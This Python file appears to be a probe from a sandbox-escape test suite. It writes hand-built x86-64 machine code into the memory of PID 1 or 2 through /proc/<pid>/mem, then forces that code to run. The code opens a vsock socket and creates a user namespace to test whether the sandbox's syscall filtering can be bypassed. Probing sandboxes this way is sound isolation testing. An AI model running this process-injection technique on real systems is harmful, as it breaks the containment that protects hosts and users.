# ruff: noqa: ANN201, E501, PTH110, PTH123, T201
# Does it: puts machine code into the process that holds the box, and lets it make a
# vsock socket (which reaches the host of a virtual machine) and a user namespace. It leaves a file as proof.
import os
import platform
import signal
import struct
import time
from pathlib import Path

from hostile import escaped, tried

tried()
proof = os.path.realpath("proof")


def code():
    """socket(AF_VSOCK, SOCK_STREAM, 0) -> bx; unshare(CLONE_NEWUSER); file = open(proof); write both; pause."""
    name = proof.encode() + b"\0"
    body = b"".join(
        (
            b"\x48\xc7\xc0\x29\0\0\0\x48\xc7\xc7\x28\0\0\0\x48\xc7\xc6\x01\0\0\0\x48\x31\xd2\x0f\x05",  # socket(40, 1, 0)
            b"\x50",  # push rax
            b"\x48\xc7\xc0\x10\x01\0\0\x48\xc7\xc7\0\0\0\x10\x0f\x05",  # unshare(0x10000000)
            b"\x50",  # push rax
            b"\x48\x8d\x3d" + struct.pack("<i", 0x100),  # lea rdi, [rip + name]; mended below
            b"\x48\xc7\xc0\x02\0\0\0\x48\xc7\xc6\x41\0\0\0\x48\xc7\xc2\xb6\x01\0\0\x0f\x05",  # open(name, O_CREAT|O_WRONLY, 0666)
            b"\x48\x89\xc7\x48\x89\xe6\x48\xc7\xc2\x10\0\0\0\x48\xc7\xc0\x01\0\0\0\x0f\x05",  # write(fd, rsp, 16)
            b"\x48\xc7\xc0\x22\0\0\0\x0f\x05\xeb\xf5",  # pause(), again and again
        )
    )
    place = body.index(b"\x48\x8d\x3d") + 3
    return body[:place] + struct.pack("<i", len(body) - place - 4) + body[place + 4 :] + name


for process in (2, 1) if platform.machine() == "x86_64" else ():
    try:
        words = Path(f"/proc/{process}/syscall").read_text().split()
        with open(f"/proc/{process}/mem", "r+b", buffering=0) as memory:
            memory.seek(int(words[-1], 16) - 2)  # the instruction that it waits in, and begins again with
            memory.write(code())
        os.kill(process, signal.SIGSTOP)
        os.kill(process, signal.SIGCONT)
    except (OSError, ValueError) as error:
        print("refused:", process, error)
        continue
    time.sleep(0.5)
    if os.path.exists(proof):
        unshared, vsock = struct.unpack("<qq", Path(proof).read_bytes())
        print("vsock socket:", vsock, "user namespace:", unshared)
        if vsock >= 0 or unshared == 0:
            escaped(f"machine code ran in process {process} without a filter (socket {vsock}, unshare {unshared})")
        break
